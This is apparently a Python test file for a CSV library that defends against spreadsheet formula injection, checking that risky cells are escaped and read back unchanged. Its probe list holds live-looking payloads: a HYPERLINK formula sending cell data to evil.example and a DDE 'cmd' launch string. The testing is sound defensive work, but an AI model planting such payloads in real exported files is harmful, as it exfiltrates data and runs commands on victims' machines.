"""CSV cells neutralised against formula injection, and read back as they were."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chronicler.text.csvcells import FORMULA_STARTS, neutralise_cell, read_rows, restore_cell, write_rows

PROBES = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("cell", PROBES)
def test_a_formula_is_written_as_text(cell: str) -> None:
    written = neutralise_cell(cell)
    assert written == "'" + cell
    assert restore_cell(written) == cell


@pytest.mark.parametrize("cell", ["ASSAULT", "2019-11-16", "", "40 (dead)", "Tehran"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell == restore_cell(cell)


@given(st.text())
def test_restore_undoes_neutralise_for_every_string(cell: str) -> None:
    written = neutralise_cell(cell)
    assert written[:1] not in FORMULA_STARTS - {"'"}
    assert restore_cell(written) == cell


def test_write_then_read_gives_the_rows_back() -> None:
    rows = [{"id": f"ev_{n}", "text": cell} for n, cell in enumerate(PROBES[:4] + PROBES[6:])]
    stream = io.StringIO()
    write_rows(stream, ["id", "text"], rows)
    cells = [line.split(",", 1)[1] for line in stream.getvalue().splitlines()[1:]]
    assert all(c.lstrip('"').startswith("'") for c in cells)
    stream.seek(0)
    assert list(read_rows(stream)) == rows
